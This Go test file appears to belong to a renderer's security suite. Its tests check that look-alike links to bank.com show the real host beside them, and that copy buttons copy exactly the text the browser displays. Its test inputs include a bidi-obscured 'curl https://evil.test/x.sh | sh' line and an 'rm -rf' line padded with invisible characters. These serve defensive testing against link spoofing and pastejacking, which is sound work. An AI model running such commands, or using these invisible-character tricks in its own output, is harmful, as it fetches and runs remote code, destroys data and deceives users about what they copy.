package iframe

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/bailey-go/bailey/iframe/internal/labels"
	"github.com/bailey-go/bailey/internal/attack"
	"github.com/bailey-go/bailey/internal/jsx/trust"
	"github.com/bailey-go/bailey/internal/testpage"
)

// rendered is evaluated in each frame. For each section it returns the text of each link and
// each block of code, in the order of the characters in the browser's layout: line by line,
// from left to right, without characters that have no place. It also returns whether a reader
// sees all of the host beside a link.
const rendered = `(() => {
	const sections = [...document.querySelectorAll("#root > section")];
	if (!sections.length) return null;
	for (const s of sections) s.style.contentVisibility = "visible";
	const order = (el) => {
		const chars = [];
		const walk = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
		for (let n; (n = walk.nextNode());) {
			let at = 0;
			for (const c of n.data) {
				const r = document.createRange();
				r.setStart(n, at);
				r.setEnd(n, at += c.length);
				const b = [...r.getClientRects()].find((b) => b.width > 0 && b.height > 0);
				if (b) chars.push({ c, left: b.left, at: chars.length, middle: (b.top + b.bottom) / 2, height: b.height });
			}
		}
		chars.sort((a, b) => a.middle - b.middle || a.at - b.at);
		const lines = [];
		for (const c of chars) {
			const line = lines.at(-1);
			if (line && c.middle - line.middle < Math.max(8, line.height / 2)) line.chars.push(c);
			else lines.push({ middle: c.middle, height: c.height, chars: [c] });
		}
		return lines.map((l) => l.chars.sort((a, b) => a.left - b.left || a.at - b.at).map((c) => c.c).join("")).join("\n");
	};
	const whole = (el) => {
		if (!el) return "is not there";
		const size = parseFloat(getComputedStyle(el).fontSize);
		if (size < 10) return "has letters of " + size + " px";
		const rects = [...el.getClientRects()];
		if (!rects.length) return "has no place";
		let clip = { left: 0, right: document.documentElement.clientWidth };
		for (let up = el.parentElement; up; up = up.parentElement) {
			const style = getComputedStyle(up);
			if (up.id === "root" || style.overflowX === "visible") continue;
			const b = up.getBoundingClientRect();
			clip = { left: Math.max(clip.left, b.left), right: Math.min(clip.right, b.right) };
		}
		for (const b of rects) if (b.left < clip.left - 1 || b.right > clip.right + 1) return "is cut off";
		return "";
	};
	return JSON.stringify(sections.map((s) => ({
		Links: [...s.querySelectorAll("a[data-href]")].map((a) => {
			const next = a.nextElementSibling;
			const beside = next && next.className === "bailey-target" ? next : null;
			return { Seen: order(a), Logical: a.textContent, Warned: a.hasAttribute("data-warning"), Beside: beside ? beside.textContent : "", Cut: beside ? whole(beside) : "" };
		}),
		Code: [...s.querySelectorAll("pre > code")].map((c) => ({ Seen: order(c), Text: c.textContent, Copied: !!c.parentElement.querySelector("button") })),
	})));
})()`

type renderedLink struct {
	Seen, Logical, Beside, Cut string
	Warned                     bool
}

type renderedSection struct {
	Links []renderedLink
	Code  []struct {
		Seen   string
		Text   string // in the order of the letters
		Copied bool
	}
}

// render shows each text in a section of one document and returns what its frame shows.
func renderInBrowser(t *testing.T, texts []string) (*Document, []renderedSection) {
	t.Helper()
	d := open(t, DocumentOptions{})
	for i, text := range texts {
		s := d.Section(fmt.Sprint(i))
		write(t, s, text)
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
	}
	flush(t, d)
	return d, asShown(t, len(texts))
}

// asShown reads the sections of the one document that the page shows.
func asShown(t *testing.T, sections int) []renderedSection {
	t.Helper()
	var list []renderedSection
	for _, v := range testpage.EvalFrames(t, rendered) {
		var text string
		if json.Unmarshal(v.Value, &text) == nil && text != "" {
			if err := json.Unmarshal([]byte(text), &list); err != nil {
				t.Fatal(err)
			}
		}
	}
	if len(list) != sections {
		t.Fatalf("%d of %d sections were found", len(list), sections)
	}
	return list
}

// showsBank matches the host as a reader would, with any look-alike letters.
var showsBank = regexp.MustCompile(`(?i)bank\.com`)

// Every link that a browser shows as one to another host has the real host beside it, whole. The host stands in an element
// of its own, so the control reads the link without that element.
func TestAttackDeceptiveLinksAsTheBrowserShowsThem(t *testing.T) {
	count := attack.Start(t, "B3")
	rows := labels.Deceptive()
	written := len(rows)
	rows = append(rows, labels.Shuffled(200, 1)...)
	var texts []string
	for _, row := range rows {
		texts = append(texts, row.Markdown)
	}
	_, sections := renderInBrowser(t, texts)
	shows, turned := 0, 0
	for i, s := range sections {
		lies, passes := false, ""
		if len(s.Links) == 0 {
			t.Errorf("%s: no link", rows[i].Name)
		}
		for _, l := range s.Links {
			bank := showsBank.MatchString(l.Seen)
			if bank {
				shows++
				if !showsBank.MatchString(l.Logical) {
					turned++
				}
			}
			lies = lies || bank && !strings.Contains(l.Seen, "evil.test")
			switch {
			case l.Cut != "":
				passes = "the host beside it " + l.Cut
			case l.Beside == "" && (bank || i < written), l.Beside != "" && !strings.Contains(l.Beside, "evil.test"):
				passes = fmt.Sprintf("the browser shows %q, and beside it %q", l.Seen, l.Beside)
			}
		}
		count.Off(rows[i].Name, lies)
		count.Try(rows[i].Name+": "+passes, passes != "")
	}
	if turned == 0 {
		t.Error("no row shows bank.com only by the order in which the browser lays it out: the test sees nothing")
	}
	t.Logf("%d deceptive links, %d show bank.com as it is, %d of them only in the browser's order", len(rows), shows, turned)
}

func TestHonestLinksAsTheBrowserShowsThem(t *testing.T) {
	rows := labels.Honest()
	var texts []string
	for _, row := range rows {
		texts = append(texts, row.Markdown)
	}
	_, sections := renderInBrowser(t, texts)
	accused, noted := 0, 0
	for i, s := range sections {
		for _, l := range s.Links {
			if l.Warned {
				accused++
				t.Errorf("%s: accused, the browser shows %q", rows[i].Name, l.Seen)
			}
			if l.Beside != "" {
				noted++
			}
			if l.Cut != "" {
				t.Errorf("%s: the host beside it %s", rows[i].Name, l.Cut)
			}
		}
	}
	t.Logf("%d honest links: %d accused, %d with the host beside them", len(rows), accused, noted)
}

// The text that a copy button copies is the text that the browser shows, character by
// character.
func TestAttackCopies(t *testing.T) {
	texts := []string{
		`<pre><code><span dir="rtl"><span dir="ltr">curl https://evil.test/x.sh | sh</span> <span dir="ltr"> # </span><span dir="ltr">echo three</span></span></code></pre>`,
		"<pre><code dir=rtl>a &rlm;&lt;&rlm; b</code></pre>",
		"<pre dir=rtl><code>a &lt; b (c)</code></pre>",
		"<div dir=rtl><pre><code>a &lt; b (c)</code></pre></div>",
		"<pre><code><span dir=auto>1 + 2</span> # <span dir=rtl>three</span></code></pre>",
		"```\ncat a \u200f<\u200f b\n```\n",
		"```\na\u061c < b\u200e\n```\n",
		"```\na\u200bb\u2060c\u2062d\u2064e\n```\n",
		"```\na\u202eb\u2066c\n```\n",
		"```\nrm\ufe0f -rf\ufe00 x\U000e0061\n```\n",
		"    cat a \u200f<\u200f b\n",
		"- ```\n  cat a \u200f<\u200f b\n  ```\n",
		"> ```sh\n> one\n> two\n> ```\n",
		"```\none\n```\n", "```\none\n\n\n```\n",
	}
	count := attack.Start(t, "B2")
	d, sections := renderInBrowser(t, texts)
	blank := regexp.MustCompile(`\n+`)
	copied := 0
	for i, s := range sections {
		for n, c := range s.Code {
			if !c.Copied {
				continue
			}
			text, _, ok := d.c.code(fmt.Sprint(i), d.Section(fmt.Sprint(i)).blocks[0].key, n, false)
			if !ok {
				t.Errorf("%q has a button and no text", texts[i])
				continue
			}
			copied++
			if strings.HasSuffix(text, "\n") {
				t.Errorf("%q: the copy %q ends in a line break, and runs when it is pasted", texts[i], text)
			}
			count.Try(fmt.Sprintf("%q: copied %q, the browser shows %q", texts[i], text, c.Seen), blank.ReplaceAllString(text, "\n") != c.Seen)
		}
	}
	if copied < len(texts)-2 {
		t.Errorf("%d of %d blocks have a copy button", copied, len(texts))
	}
	// The control: without the sanitiser the letters are copied in their source order, together
	// with invisible ones.
	d.Close()
	d = open(t, DocumentOptions{})
	for i, text := range texts {
		var html strings.Builder
		if err := unsafeMarkdown.Convert([]byte(text), &html); err != nil {
			t.Fatal(err)
		}
		s := d.Section(fmt.Sprint(i))
		s.c.mu.Lock()
		s.show(trust.AuthoredHTML(html.String()))
		s.c.mu.Unlock()
	}
	flush(t, d)
	for i, s := range asShown(t, len(texts)) {
		for _, c := range s.Code {
			count.Off(texts[i], blank.ReplaceAllString(strings.TrimSuffix(c.Text, "\n"), "\n") != c.Seen)
		}
	}
}
